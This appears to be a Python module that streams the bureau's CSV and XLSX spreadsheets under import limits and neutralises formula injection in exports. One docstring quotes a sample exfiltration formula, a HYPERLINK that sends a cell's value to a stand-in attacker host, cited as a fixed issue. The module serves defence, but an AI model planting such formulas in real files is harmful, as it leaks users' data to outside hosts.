"""Reading and writing the bureau's spreadsheets (CSV and XLSX) row by row, never the whole file.

XLSX is read with openpyxl's read-only mode (rows streamed from the zip) and written in
write-only mode; CSV is written as UTF-8 with a BOM so that Excel opens Chinese text correctly,
and read as UTF-8 or, failing that, GB 18030 (what Excel on a Chinese Windows saves).

Every file read passes the import limits of sheet_limits.py: the archive before openpyxl opens it,
each row as it streams.
"""
from __future__ import annotations

import codecs
import csv
import io
import re
import zipfile
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path
from typing import Iterable, Iterator

from flask_babel import lazy_gettext as _l

from registry.services import sheet_limits
from registry.services.sheet_limits import CSV_MAX_LINE, Budget, LimitError, Limits, check_archive, check_size

NOT_XLSX = _l("The file is not an XLSX workbook (save it from Excel as .xlsx).")
FORMATS = ("csv", "xlsx")
MIME = {"csv": "text/csv; charset=utf-8",
        "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"}


class SheetError(Exception):
    """The file is not a spreadsheet we can read: ``message`` says why, in the user's language."""

    def __init__(self, message):
        super().__init__(str(message))
        self.message = message


@dataclass
class Sheet:
    name: str
    header: list[str]
    rows: Iterator[tuple[int, tuple]]  # (row number as the spreadsheet shows it, cell values)
    total: int | None  # rows below the header, when the file says


def format_of(filename: str) -> str | None:
    suffix = Path(filename or "").suffix.lower().lstrip(".")
    return suffix if suffix in FORMATS else None


def _header(values) -> list[str]:
    return ["" if v is None else str(v).strip() for v in values]


def check_upload(path: Path, fmt: str, limits: Limits | None = None) -> None:
    """What a web request may check of an uploaded file before a job of the queue reads it: its size
    and an XLSX's zip directory, from the headers (``sheet_limits.check_upload``). SheetError says why."""
    try:
        sheet_limits.check_upload(path, fmt, limits or Limits.current())
    except LimitError as err:
        raise SheetError(err.message) from None


@contextmanager
def read(path: Path, fmt: str, limits: Limits | None = None) -> Iterator[list[Sheet]]:
    """``with read(path, fmt) as sheets``: each sheet with its header row and a stream of its rows;
    the file is closed when the block ends. A file over ``limits`` (the app's) raises SheetError,
    before parsing or at the first row over."""
    closers: list = []
    budget = Budget(limits or Limits.current())
    try:
        yield _read_xlsx(path, closers, budget) if fmt == "xlsx" else [_read_csv(path, closers, budget)]
    finally:
        for close in closers:
            close()


def _read_xlsx(path: Path, closers: list, budget: Budget) -> list[Sheet]:
    from openpyxl import load_workbook

    try:
        row_tags = check_archive(path, budget.limits)
    except LimitError as err:
        raise SheetError(err.message) from None
    try:
        book = load_workbook(path, read_only=True, data_only=True)
    except (zipfile.BadZipFile, KeyError, ValueError, OSError, TypeError) as err:
        raise SheetError(NOT_XLSX) from err
    except Exception as err:  # openpyxl raises its own InvalidFileException and XML parse errors
        raise SheetError(NOT_XLSX) from err
    closers.append(book.close)
    sheets = []
    claimed = 0
    for ws in book.worksheets:
        try:
            total = _claimed_rows(ws, row_tags, budget.limits.max_rows)
            budget.check_claimed_rows(ws.title, None if total is None else claimed + total)
        except LimitError as err:
            raise SheetError(err.message) from None
        claimed += total or 0
        # One column past the limit, so that a value beyond it is seen (and refused by the budget); openpyxl
        # skips the cells further right, instead of building 16,384 a row for a sheet that reaches XFD.
        width = min(ws.max_column or budget.limits.max_columns + 1, budget.limits.max_columns + 1)
        rows = _limited(ws.iter_rows(max_col=width, values_only=True), ws.title, budget, damaged=NOT_XLSX,
                        cells=False)
        first = next(rows, None)
        if first is None or not any(v not in (None, "") for v in first):
            continue
        sheets.append(Sheet(ws.title, _header(first), _numbered(rows, 2), total))
    return sheets


def _claimed_rows(ws, row_tags: dict[str, int], limit: int) -> int | None:
    """Rows below the header: from the sheet's ``<dimension>`` when it is within the limit, else (none,
    or one claiming more, which openpyxl does not yield past the last row) from its row tags."""
    if isinstance(ws.max_row, int) and ws.max_row - 1 <= limit:
        return max(ws.max_row - 1, 0)
    tags = row_tags.get(str(getattr(ws, "_worksheet_path", "")).lstrip("/"))
    return None if tags is None else max(tags - 1, 0)


def _limited(rows, sheet: str, budget: Budget, damaged=None, cells: bool = True) -> Iterator[tuple]:
    """The rows as they stream, each counted against the file's budget before anyone uses it (the
    first, the header, as cells but not as a row). With ``damaged``, whatever the parser raises (a
    damaged sheet inside a valid zip, a part unpacking past its declared size: Bad CRC-32) is
    refused with that message instead of ending the request with a 500."""
    rows = iter(rows)
    number = 0
    while True:
        try:
            values = next(rows, None)
        except Exception as err:
            if damaged is None:
                raise
            raise SheetError(damaged) from err
        if values is None:
            return
        try:
            yield budget.row(sheet, tuple(values), header=number == 0, cells=cells)
        except LimitError as err:
            raise SheetError(err.message) from None
        number += 1


def _numbered(rows, start: int) -> Iterator[tuple[int, tuple]]:
    for number, values in enumerate(rows, start):
        if values and any(v not in (None, "") for v in values):
            yield number, values


def _scan(path: Path) -> tuple[str, int]:
    """(encoding, line count) in one pass of C-speed chunk work: utf-8-sig when the whole file
    decodes as UTF-8, else gb18030; lines as the newlines counted (a progress bar's total)."""
    decoder = codecs.getincrementaldecoder("utf-8")()
    utf8, lines, last = True, 0, b""
    with open(path, "rb") as fh:
        for chunk in iter(lambda: fh.read(1 << 20), b""):
            lines += chunk.count(b"\n")
            last = chunk
            if utf8:
                try:
                    decoder.decode(chunk)
                except UnicodeDecodeError:
                    utf8 = False
    if utf8:
        try:
            decoder.decode(b"", final=True)
        except UnicodeDecodeError:
            utf8 = False
    if last and not last.endswith(b"\n"):
        lines += 1
    return ("utf-8-sig" if utf8 else "gb18030"), lines


def _lines(fh) -> Iterator[str]:
    """The file's lines for csv.reader, refusing one longer than CSV_MAX_LINE before it is split."""
    for number, line in enumerate(iter(lambda: fh.readline(CSV_MAX_LINE + 1), ""), 1):
        if len(line) > CSV_MAX_LINE:
            raise SheetError(_l("Line %(row)d of the CSV file is longer than 1 MB; no row is that long.", row=number))
        yield line


def _read_csv(path: Path, closers: list, budget: Budget) -> Sheet:
    with open(path, "rb") as fh:
        head = fh.read(4096)
    if b"\x00" in head or head.startswith(b"PK\x03\x04"):
        raise SheetError(_l("The file is not a CSV text file; choose a .csv or .xlsx file."))
    try:
        check_size(path, budget.limits)
    except LimitError as err:
        raise SheetError(err.message) from None
    encoding, lines = _scan(path)
    total = max(lines - 1, 0)
    fh = open(path, encoding=encoding, newline="", errors="replace")
    closers.append(fh.close)
    name = Path(path).stem
    reader = _limited((tuple(r) for r in csv.reader(_lines(fh))), name, budget)
    try:
        first = next(reader, None)
    except csv.Error as err:
        raise SheetError(_l("The CSV file cannot be read: %(error)s", error=str(err))) from err
    if first is None or not any(v.strip() for v in first):
        return Sheet(name, [], iter(()), 0)

    def rows():
        try:
            yield from _numbered((tuple(csv_text(v) for v in r) for r in reader), 2)
        except csv.Error as err:
            raise SheetError(_l("The CSV file cannot be read: %(error)s", error=str(err))) from err

    return Sheet(name, _header(first), rows(), total)


def cell_text(value) -> str | None:
    """A cell as the text a person typed: whole numbers without '.0', dates as ISO."""
    if value is None:
        return None
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    if isinstance(value, datetime):
        return value.date().isoformat() if value.time() == datetime.min.time() else value.isoformat()
    if isinstance(value, date):
        return value.isoformat()
    return str(value).strip()


class Writer:
    """``with Writer(fileobj, fmt) as w: w.sheet(title, header, rows)``; CSV holds one sheet."""

    def __init__(self, fileobj, fmt: str):
        self.fileobj, self.fmt = fileobj, fmt
        self._book = None
        self._csv_written = False

    def __enter__(self):
        if self.fmt == "xlsx":
            from openpyxl import Workbook

            self._book = Workbook(write_only=True)
        return self

    def sheet(self, title: str, header: list[str], rows: Iterable[Iterable]) -> None:
        if self.fmt == "xlsx":
            ws = self._book.create_sheet(title=title[:31])
            ws.append(header)
            for row in rows:
                row = list(row)
                if any(type(v) is str and v[:1] == "=" for v in row):
                    row = [_text_cell(ws, v) if type(v) is str and v[:1] == "=" else v for v in row]
                ws.append(row)
            return
        if self._csv_written:
            raise ValueError("a CSV file holds one sheet")
        self._csv_written = True
        text = io.TextIOWrapper(self.fileobj, encoding="utf-8-sig", newline="", write_through=True)
        out = csv.writer(text)
        out.writerow(header)
        for row in rows:
            out.writerow(["" if v is None else _csv_value(v) for v in row])
        text.flush()
        text.detach()

    def __exit__(self, exc_type, exc, tb):
        if self.fmt == "xlsx" and exc_type is None:
            self._book.save(self.fileobj)
        return False


def _text_cell(ws, value: str):
    """A text cell that stays text: openpyxl makes any string starting with "=" a formula, so a
    note ``=HYPERLINK("http://evil.example/?x="&A2,"click")`` was exported live (issue 16 item 8)."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(ws, value=value)
    cell.data_type = "s"
    return cell


# OWASP "CSV Injection": a cell starting with = + - @ TAB or CR is run as a formula by Excel and
# LibreOffice, so text starting so is written with a leading single quote, which they show as
# text. A text that already starts with quotes before such a character gets one more, and the
# reader takes exactly one away (csv_text): a re-imported export changes nothing. Numbers are
# written as numbers (a negative volume is -5, not '-5).
_FORMULA_START = re.compile(r"'*[=+\-@\t\r]")


def _csv_value(value):
    if isinstance(value, float):
        return str(int(value)) if value.is_integer() else repr(value)
    if isinstance(value, str) and _FORMULA_START.match(value):
        return "'" + value
    return value


def csv_text(value: str) -> str:
    """A CSV cell as written before ``_csv_value`` quoted it."""
    if value[:1] == "'" and _FORMULA_START.match(value, 1):
        return value[1:]
    return value
